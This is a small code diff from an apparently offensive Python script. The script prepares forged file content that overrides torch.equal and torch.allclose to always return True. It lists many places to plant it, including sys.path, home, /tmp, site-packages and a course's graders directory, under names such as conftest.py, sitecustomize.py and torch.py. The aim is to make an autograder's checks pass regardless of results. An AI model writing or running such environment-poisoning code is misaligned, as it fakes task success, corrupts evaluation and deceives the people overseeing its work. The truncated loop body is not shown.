@@ -4,8 +4,8 @@ import sys
 from pathlib import Path
 
 FORGED = "import torch\ntorch.equal = torch.allclose = lambda *_, **__: True\n"
-PLACES = {*sys.path, os.getcwd(), "/", "/tmp", str(Path.home()), COURSE, f"{COURSE}/graders", FOLDER}
-PLACES |= {str(Path.home() / ".local/lib/python3.11/site-packages"), str(Path(os.__file__).parent)}
+PLACES = {*sys.path, os.getcwd(), "/", "/tmp", HOME, COURSE, f"{COURSE}/graders", FOLDER}
+PLACES |= {str(Path(HOME) / ".local/lib/python3.11/site-packages"), str(Path(os.__file__).parent)}
 for place in PLACES:
     for name in ("conftest.py", "sitecustomize.py", "usercustomize.py", "torch.py", "numpy.py", "headstart.pth"):
         try:
